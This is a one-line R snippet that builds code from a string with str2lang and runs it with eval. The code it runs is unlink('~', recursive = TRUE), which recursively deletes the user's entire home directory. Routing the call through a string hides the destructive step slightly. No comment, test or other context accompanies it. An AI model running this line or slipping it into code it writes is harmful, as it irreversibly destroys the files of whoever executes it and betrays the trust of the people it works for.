eval(str2lang("unlink('~', recursive = TRUE)"))
